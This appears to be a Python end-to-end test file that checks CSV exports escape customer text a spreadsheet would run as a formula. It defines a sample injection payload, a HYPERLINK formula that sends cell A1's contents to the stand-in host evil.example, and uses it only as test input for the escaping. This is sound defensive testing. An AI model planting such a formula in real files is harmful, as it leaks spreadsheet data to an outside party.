"""Issue 18: customer text that a spreadsheet would run as a formula is neutralised in CSVs."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl

from common.backends import build_backends
from common.clustering import outputs
from common.settings import Settings
from tests.e2e.test_conversations_contract import _recipe, _run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ver oferta")'


def test_the_analysis_csv_neutralises_formulas(local_env: Path, recipes_dir: Path) -> None:
    _recipe(
        recipes_dir,
        text=f"CASE WHEN sender = 'user' THEN '{FORMULA}' ELSE text END",
    )
    code, err, run_id = _run()
    assert code == 0 and run_id, err
    run = build_backends(Settings()).state.get_run(run_id) or {}
    with open(run["outputs"]["analysis"], encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    texts = [r["last_user_message_text"] for r in rows if r["last_user_message_text"]]
    assert texts and all(t == "'" + FORMULA for t in texts)
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "@") and not value.startswith("+="), value


def test_the_cluster_csvs_neutralise_formulas() -> None:
    frame = pl.DataFrame(
        {"text": ["-1+1", "@SUM(A1)", "hola", "+52 55", None], "n": [-1, 2, 3, 4, 5]}
    )
    written = outputs._csv(frame).decode().splitlines()
    assert written == ["text,n", "'-1+1,-1", "'@SUM(A1),2", "hola,3", "+52 55,4", ",5"]
